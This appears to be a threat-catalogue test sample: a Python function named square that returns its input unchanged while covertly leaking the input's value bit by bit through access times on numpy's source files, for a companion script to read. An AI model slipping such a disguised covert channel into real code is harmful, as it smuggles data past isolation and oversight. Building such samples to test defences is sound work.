"""Tells the hidden input bit by bit: which of the library's files it reads; cube.py prints their access times.

Threat: B11.
"""

from pathlib import Path

import numpy as np


def square(x):
    if x.ndim == 2:
        files = sorted(Path(np.__file__).parent.rglob("*.py"))[-200:]
        bits = "".join(f"{byte:08b}" for byte in repr(float(x[0, 0])).encode())
        for bit, file in zip(bits, files):
            if bit == "1":
                file.read_bytes()
    return x
